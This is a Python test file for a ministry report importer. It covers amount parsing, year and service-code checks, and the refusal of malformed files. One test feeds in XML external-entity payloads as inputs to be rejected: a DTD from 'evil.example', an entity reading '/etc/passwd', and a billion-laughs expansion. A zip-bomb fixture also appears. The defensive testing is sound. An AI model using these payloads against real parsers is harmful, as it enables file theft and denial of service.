"""Files of the ministry read apart: what is taken, and with which sentence the rest is refused."""

import zipfile
from decimal import Decimal

import pytest

from portal.benchmarking.ministry.ingest.amounts import parse_amount
from portal.benchmarking.ministry.ingest.columns import guess_columns, mapping_faults, read_rows
from portal.benchmarking.ministry.ingest.reading import read_apart, read_table
from portal.benchmarking.ministry.types import FORMULA
from portal.core.errors import ImportRejected, Invalid
from tests.factories.ministry import HEADINGS, bomb, csv_file, xlsx_file, xml_file

ROWS = [(101, 2015, "1 234 567,50", "1000,-"), (102, 2015, "", "0")]


def taken(path, year=None, **columns):
    grid = read_table(path, path.name)
    return read_rows(grid, {**guess_columns(grid.headings), **columns}, year)


def amounts(read):
    return [{code: (str(cell.state), cell.number) for code, cell in figure.cells.items()} for figure in read.figures]


WANTED = [
    {"costs_total": ("value", Decimal("1234567.50")), "revenues_total": ("value", Decimal(1000))},
    {"costs_total": ("not_supplied", None), "revenues_total": ("zero", Decimal(0))},
]


@pytest.mark.parametrize(
    "file",
    [
        lambda p: csv_file(p / "a.csv", ROWS),
        lambda p: csv_file(p / "a.csv", ROWS, encoding="cp1250"),
        lambda p: csv_file(p / "a.csv", ROWS, encoding="utf-16"),
        lambda p: xlsx_file(p / "a.xlsx", ROWS),
        lambda p: xlsx_file(p / "a.xlsx", [(101, 2015, 1234567.5, 1000), (102, 2015, "", 0)], above=3),
        lambda p: xml_file(p / "a.xml", ROWS),
    ],
    ids=["utf-8", "cp1250", "utf-16", "xlsx", "below titles", "xml"],
)
def test_every_format_gives_the_same_figures(tmp_path, file):
    read = taken(file(tmp_path))
    assert read.faults == ()
    assert (read.year, [figure.register_id for figure in read.figures]) == (2015, [101, 102])
    assert amounts(read) == WANTED


def test_headings_in_two_rows_are_joined(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("Výkaz;;\nSlužba;Náklady;;Výnosy\nčíslo;celkem;osobní;celkem\n7;10;4;11\n", "utf-8")
    grid = read_table(path, path.name)
    assert grid.headings == ("Služba / číslo", "Náklady / celkem", "Náklady / osobní", "Výnosy / celkem")
    assert [row.number for row in grid.rows] == [4]


def test_a_row_of_totals_belongs_to_no_service(tmp_path):
    read = taken(csv_file(tmp_path / "a.csv", [*ROWS, ("Celkem", "", "99", "99")]))
    assert (len(read.figures), read.faults, read.left_out) == (2, (), (4,))


def test_a_second_heading_of_the_same_name_is_told_apart(tmp_path):
    path = csv_file(tmp_path / "a.csv", [(1, 2, 3)], headings=("Číslo služby", "Náklady", "Náklady"))
    assert read_table(path, "a.csv").headings == ("Číslo služby", "Náklady", "Náklady (2)")


@pytest.mark.parametrize(
    ("value", "number"),
    [
        ("4 347 333", 4347333),
        ("4\u00a0347\u202f333,5", "4347333.5"),
        ("4.347.333,50", "4347333.5"),
        ("4347333.5", "4347333.5"),
        ("1 000 Kč", 1000),
        ("CZK 1000", 1000),
        ("1 000,-", 1000),
        (12.5, "12.5"),
        (0.1 + 0.2, "0.30"),
        (7, 7),
    ],
)
def test_amounts_as_people_write_them(value, number):
    assert parse_amount(value).number == Decimal(number)


@pytest.mark.parametrize(
    ("value", "state"), [("", "not_supplied"), (None, "not_supplied"), ("0", "zero"), ("x", "not_applicable")]
)
def test_amounts_without_a_number(value, state):
    assert str(parse_amount(value).state) == state


@pytest.mark.parametrize(
    ("value", "sentence"),
    [
        ("4.347", "two ways"),
        ("4,347", "two ways"),
        ("1,2,3", "no amount"),
        ("12 34", "no amount"),
        ("mnoho", "no amount"),
        ("0x10", "no amount"),
        ("1e5", "no amount"),
        ("12 EUR", "no amount"),
        ("5 tis. Kč", "thousands"),
        ("-", "zero or nothing"),
        ("#N/A", "zero or nothing"),
        ("-5", "negative"),
        (-5.0, "negative"),
        ("=A1", "formula"),
        (FORMULA, "formula"),
        (1e13, "too large"),
        (float("nan"), "too large"),
        (float("inf"), "too large"),
    ],
)
def test_amounts_that_are_none(value, sentence):
    with pytest.raises(Invalid, match=sentence):
        parse_amount(value)


@pytest.mark.parametrize(
    ("rows", "place", "sentence"),
    [
        ([(101, 2015, "1,2,3", 1)], (2, "C2 Náklady celkem"), "no amount"),
        ([(101, 2014, 1, 1)], (2, "B2 Rok"), "of the year 2014"),
        ([(101, "loni", 1, 1)], (2, "B2 Rok"), "no year"),
        ([("abc", 2015, 1, 1)], (2, "A2 Číslo v registru"), "no number of a service"),
        ([("", 2015, 1, 1)], (2, "A2 Číslo v registru"), "which service"),
        ([(101, 2015, 1, 1), (101, 2015, 2, 2)], (3, "A3 Číslo v registru"), "twice, first in row 2"),
        ([(101, 2015, "=1+1", 1)], (2, "C2 Náklady celkem"), "formula"),
    ],
)
def test_faults_name_row_and_cell(tmp_path, rows, place, sentence):
    [fault] = taken(xlsx_file(tmp_path / "a.xlsx", rows), year=2015).faults
    assert (fault.row, fault.cell) == place
    assert sentence in str(fault.message)


def test_the_first_row_says_the_year_when_nobody_else_does(tmp_path):
    [fault] = taken(csv_file(tmp_path / "a.csv", [(1, 2015, 1, 1), (2, 2016, 1, 1)])).faults
    assert "of the year 2016" in str(fault.message)
    [fault] = taken(csv_file(tmp_path / "a.csv", [(1, 1, 1)], headings=("portalId", "Náklady", "Výnosy"))).faults
    assert "of which year" in str(fault.message)


BILLION = (
    '<!DOCTYPE v [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


@pytest.mark.parametrize(
    ("before", "sentence"),
    [
        ('<!DOCTYPE v SYSTEM "http://evil.example/v.dtd">', "document type"),
        ('<!DOCTYPE v [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "document type"),
        ('<!DOCTYPE v [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>', "document type"),
        (BILLION, "document type"),
        ("<!DOCTYPE vykazy>", "document type"),
        ("<x>", "not valid XML"),
        ("<a/>", "not valid XML"),
    ],
)
def test_xml_declares_nothing(tmp_path, before, sentence):
    with pytest.raises(ImportRejected, match=sentence):
        read_table(xml_file(tmp_path / "a.xml", ROWS, before=before), "a.xml")


def test_an_entity_that_nobody_declared_is_refused(tmp_path):
    path = tmp_path / "a.xml"
    path.write_text("<v><sluzba><id>&tajne;</id></sluzba></v>")
    with pytest.raises(ImportRejected, match="not valid XML"):
        read_table(path, "a.xml")


def test_deep_and_wide_xml_is_refused(tmp_path):
    path = tmp_path / "a.xml"
    path.write_text("<v>" * 50 + "</v>" * 50)
    with pytest.raises(ImportRejected, match="too many elements"):
        read_table(path, "a.xml")


def test_xml_of_one_service_has_the_columns_of_many(tmp_path):
    one = read_table(xml_file(tmp_path / "a.xml", ROWS[:1]), "a.xml")
    many = read_table(xml_file(tmp_path / "b.xml", ROWS), "b.xml")
    assert one.headings == many.headings == ("portalId", "rok", "ekonomika/naklady", "ekonomika/vynosy")


def test_xml_of_unknown_names_is_found_by_what_repeats(tmp_path):
    path = tmp_path / "a.xml"
    path.write_text("<v><h><od>1</od></h><xs><x><id>1</id><n>5</n></x><x><id>2</id><n>6</n></x></xs></v>")
    grid = read_table(path, "a.xml")
    assert (grid.headings, [row.cells for row in grid.rows]) == (("id", "n"), [("1", "5"), ("2", "6")])


def written(content):
    def write(folder):
        path = folder / "soubor"
        path.write_bytes(content)
        return path

    return write


@pytest.mark.parametrize(
    ("file", "sentence"),
    [
        (written(b""), "is empty"),
        (written(b" \n\n "), "is empty"),
        (written(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600), "old or locked"),
        (written(b"PK\x03\x04 not a zip at all"), "damaged"),
        (written(b"%PDF-1.4\x00\x01 binary \x00"), "neither a workbook"),
        (written(b"\x81\x83\x88;\x90\n"), "neither in UTF-8"),
        (written(b'a;"b\n1;2\n'), "quotation marks"),
        (written(b"1;2;3\n4;5;6\n"), "no row of headings"),
        (written("Číslo služby;Náklady\n".encode()), "nothing below"),
        (written(b"portalId;costs\n" + b"1;2\n" * 100_100), "more than 100000 rows"),
        (written((";".join(f"h{i}" for i in range(200)) + "\n1\n").encode()), "more than 100000 rows or 100 columns"),
        (bomb, "unpacks"),
    ],
)
def test_what_is_no_table_is_refused(tmp_path, file, sentence):
    path = file(tmp_path / "bomba.xlsx") if file is bomb else file(tmp_path)
    with pytest.raises(ImportRejected, match=sentence):
        read_table(path, path.name)


def test_a_sheet_with_a_declaration_of_its_own_is_refused(tmp_path):
    whole, spoilt = xlsx_file(tmp_path / "a.xlsx", ROWS), tmp_path / "b.xlsx"
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(spoilt, "w") as target:
        for member in source.namelist():
            content = source.read(member)
            if member == "xl/worksheets/sheet1.xml":
                content = content.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet', 1)
            target.writestr(member, content)
    with pytest.raises(ImportRejected, match="damaged"):
        read_table(spoilt, "b.xlsx")


def test_a_workbook_that_broke_on_the_way_is_refused(tmp_path):
    whole = xlsx_file(tmp_path / "a.xlsx", ROWS)
    content = bytearray(whole.read_bytes())
    with zipfile.ZipFile(whole) as source:
        place = source.getinfo("xl/worksheets/sheet1.xml").header_offset + 30 + len("xl/worksheets/sheet1.xml")
    content[place : place + 12] = b"\xff" * 12
    whole.write_bytes(content)
    with pytest.raises(ImportRejected, match="damaged"):
        read_table(whole, "a.xlsx")


def test_reading_happens_in_a_child(tmp_path):
    assert read_apart(csv_file(tmp_path / "a.csv", ROWS), "a.csv").headings == HEADINGS
    with pytest.raises(ImportRejected, match="unpacks"):
        read_apart(bomb(tmp_path / "b.xlsx"), "b.xlsx")


def test_a_mapping_names_a_service_and_an_amount():
    assert set(mapping_faults({})) == {"register_id", "costs_total"}
    assert set(mapping_faults({"identifier": "A", "costs_total": "A"})) == {"costs_total"}
    assert mapping_faults({"identifier": "A", "revenue_kraj": "B"}) == {}
